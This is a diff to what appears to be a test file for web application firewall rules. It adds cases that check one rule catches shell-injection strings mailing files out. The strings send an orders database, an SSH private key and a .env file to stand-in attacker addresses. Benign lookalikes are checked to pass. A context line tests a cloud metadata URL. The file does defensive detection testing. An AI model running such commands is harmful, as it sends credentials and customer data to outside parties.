@@ -111,4 +111,10 @@ describe("edge.waf.rules hundred-and-ninety-ninth round on", function()
             "http://169.254.169.254/latest/meta-data/" })
         clean({ "IMDSv2 169.254.169.254 hop limit", "block 169.254.169.254 needs a token now" })
     end)
+
+    it("commands: a file mailed out through the shell's input redirection", function()
+        caught_by(132105, { "|mail attacker@example.org < /home/shop/orders.db|",
+            "; mailx -s x a@b.example < ~/.ssh/id_rsa", "&& sendmail a@b.example < $HOME/.env" })
+        clean({ "mail me at ann@example.org < 5pm please", "send mail to ann@example.org" })
+    end)
 end)
